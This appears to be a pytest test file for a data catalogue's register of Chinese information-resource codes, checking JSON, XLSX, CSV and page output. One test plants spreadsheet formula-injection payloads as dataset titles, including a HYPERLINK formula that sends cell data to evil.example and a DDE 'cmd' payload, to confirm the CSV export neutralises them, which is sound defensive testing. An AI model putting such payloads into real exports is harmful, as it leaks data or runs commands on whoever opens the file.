"""Synthetic datasets (labelled synthetic) whose steward declared the register's codes: the
declarations reach every format, related datasets give their codes, and the dataset page
shows the 信息资源代码."""

from __future__ import annotations

import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml

from api import create_app
from catalog.settings import Settings
from catalog.store import FolderStore, Publisher, credit_check_character
from tests.conftest import write_regions, write_wages

BODY = "12520000MB1234567"  # synthetic: a 机构编制 unit in Guizhou, any subject code
CREDIT_CODE = BODY + credit_check_character(BODY)


def declare(folder: Path, register: dict[str, Any]) -> None:
    path = folder / "datapackage.yaml"
    document = yaml.safe_load(path.read_text(encoding="utf-8"))
    document["register"] = register
    document["organization"]["credit_code"] = CREDIT_CODE
    path.write_text(yaml.safe_dump(document, allow_unicode=True), encoding="utf-8")


pytestmark = pytest.mark.anyio


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture(scope="module")
def declared_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("declared")
    datasets, root = folder / "datasets", folder / "store"
    declare(write_regions(datasets), {"code": "101002/000007"})
    sharing = {"type": "conditional", "conditions": "仅限人社系统内部", "method": "接口"}
    declare(
        write_wages(datasets),
        {"code": "301001001/000001", "sharing": sharing, "related": ["206001/000003"]},
    )
    publisher = Publisher(FolderStore(root), datasets)
    for source in publisher.plan(list(publisher.sources().values())):
        publisher.build(source)
    assert publisher.broken == {}
    return root


@pytest.fixture
async def client(declared_store: Path) -> AsyncIterator[httpx.AsyncClient]:
    app = create_app(Settings(store=declared_store, datasets=declared_store / "none"))
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://test") as http:
        yield http


async def test_register_carries_what_the_steward_declared(client: httpx.AsyncClient) -> None:
    resources = (await client.get("/catalog/register.json")).json()["resources"]
    wages = next(r for r in resources if r["dataset"] == "wages-test")
    assert wages["code"] == "301001001/000001"
    assert wages["classification"] == "部门信息资源 3-01-001-001"
    assert wages["provider_code"] == CREDIT_CODE
    assert (wages["sharing_type"], wages["sharing_conditions"], wages["sharing_method"]) == (
        "有条件共享",
        "仅限人社系统内部",
        "接口",
    )
    # The foreign key into regions-test gives its code; the steward's own code follows.
    assert wages["related"] == ["regions-test"]
    assert wages["related_codes"] == ["101002/000007", "206001/000003"]
    assert wages["notes"] == [] and wages["undeclared"] == []
    regions = next(r for r in resources if r["dataset"] == "regions-test")
    assert regions["notes"] == ["共享属性未声明"]
    assert regions["undeclared"] == ["sharing_type", "sharing_conditions", "sharing_method"]


async def test_register_xlsx_is_the_same_bytes_each_time(client: httpx.AsyncClient) -> None:
    from catalog.register import catalogue_register, register_xlsx

    first = await client.get("/catalog/register.xlsx")
    assert first.headers["content-disposition"] == 'attachment; filename="register.xlsx"'
    # Made afresh (not the kept body), the workbook is still byte for byte the same.
    app = client._transport.app  # type: ignore[attr-defined]
    packages = list(app.state.index.packages().values())
    stamp = max(p.modified_at() for p in packages)
    assert register_xlsx(catalogue_register(packages), stamp) == first.content


async def test_dataset_page_shows_the_resource_code(client: httpx.AsyncClient) -> None:
    page = (await client.get("/dataset/wages-test")).text
    assert "信息资源代码</th><td><code>301001001/000001</code>" in page
    english = (await client.get("/dataset/wages-test?lang=en")).text
    assert "<code>301001001/000001</code>" in english


async def test_the_register_csv_neutralises_formulas(tmp_path: Path) -> None:
    folder = write_regions(tmp_path / "datasets")
    path = folder / "datapackage.yaml"
    document = yaml.safe_load(path.read_text(encoding="utf-8"))
    document["title"] = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    document["description"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    path.write_text(yaml.safe_dump(document, allow_unicode=True), encoding="utf-8")
    publisher = Publisher(FolderStore(tmp_path / "store"), tmp_path / "datasets")
    for source in publisher.plan(list(publisher.sources().values())):
        publisher.build(source)
    assert publisher.broken == {}
    app = create_app(Settings(store=tmp_path / "store", datasets=tmp_path / "none"))
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://test") as web:
        text = (await web.get("/catalog/register.csv")).content.decode("utf-8-sig")
    cells = [cell for line in text.splitlines()[1:] for cell in line.split(",")]
    assert not any(cell.lstrip('"').startswith(("=", "+", "@")) for cell in cells)
    assert "'=HYPERLINK(" in text and "'@SUM(1+1)" in text


def test_requests_arriving_together_wait_for_one_build(monkeypatch: pytest.MonkeyPatch) -> None:
    from concurrent.futures import ThreadPoolExecutor

    import api.routes.register.feed as feed

    built = []

    def slow_render(extension: str, packages: Any, store: Any) -> bytes:
        built.append(extension)
        time.sleep(0.2)
        return b"body"

    monkeypatch.setattr(feed, "_render", slow_render)
    bodies = feed.RegisterBodies()
    with ThreadPoolExecutor(16) as pool:
        answers = list(pool.map(lambda _: bodies.body("xlsx", [], None), range(16)))  # type: ignore[arg-type]
    assert answers == [b"body"] * 16 and built == ["xlsx"]


def test_a_shared_code_is_never_a_datasets_own_related_code(tmp_path: Path) -> None:
    """Two datasets declaring one code (a steward's mistake): wages-test's foreign key into
    regions-test would give its own code as 关联资源代码; the notes say the duplicate."""
    from catalog.register import catalogue_register
    from catalog.store import load_dataset

    datasets = tmp_path / "datasets"
    declare(write_regions(datasets), {"code": "101002/000007"})
    declare(write_wages(datasets), {"code": "101002/000007", "related": ["101002/000007"]})
    packages = [load_dataset(datasets / slug).package for slug in ("regions-test", "wages-test")]
    wages = next(e for e in catalogue_register(packages) if e.dataset == "wages-test")
    assert wages.related == ("regions-test",)
    assert wages.related_codes == ()
    assert "信息资源代码与 regions-test 重复" in wages.notes
